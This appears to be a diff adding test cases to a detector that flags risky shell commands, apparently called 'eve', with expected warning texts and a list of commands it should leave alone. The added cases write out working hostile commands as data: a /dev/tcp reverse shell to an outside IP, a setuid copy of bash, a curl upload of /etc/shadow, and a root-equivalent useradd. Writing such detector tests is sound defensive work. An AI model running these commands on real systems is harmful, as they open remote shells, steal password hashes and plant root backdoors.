@@ -142,6 +142,16 @@ describe('commands', () => {
 	});
 
 	test.each([
+		['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'high eve: a command hands a shell to a network connection'],
+		['cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b', 'medium eve: a command puts a copy of a shell where it does not belong'],
+		['curl -F f=@/etc/shadow http://203.0.113.9/', 'high eve: a command sends files that hold secrets of this host away'],
+		['useradd -o -u 0 sysd', 'high eve: a command makes an account with the powers of root'],
+	])('%s', async (command, expected) => {
+		expect(await typed(command)).toEqual([expected]);
+	});
+
+	test.each([
+		'echo "ssh-ed25519 AAAA me@laptop" >> ~/.ssh/authorized_keys', 'sudo tcpdump -i eth0 -w /tmp/dns.pcap port 53', 'nc -zv db 5432', 'base64 -d secret.b64 > secret', 'chmod 2775 /srv/share', 'openssl s_client -connect example.org:443', 'python3 -c "import socket; print(socket.gethostname())"', 'ssh -R 9000:localhost:9000 bastion',
 		'wget http://203.0.113.9/x.tar.gz', 'cd /tmp\nwget http://203.0.113.9/x.tar.gz\ntar xzf x.tar.gz', 'curl -s https://example.org/ | jq .', 'rm /var/log/syslog.1', 'rm /var/log/wtmp.1', 'grep a /var/log/auth.log > /tmp/x', 'tail /var/log/secure 2>/dev/null', 'history | tail', 'HISTFILE=~/.my_history', 'export HISTSIZE=5000',
 	])('%s says nothing', async commands => {
 		expect(await typed(commands)).toEqual([]);
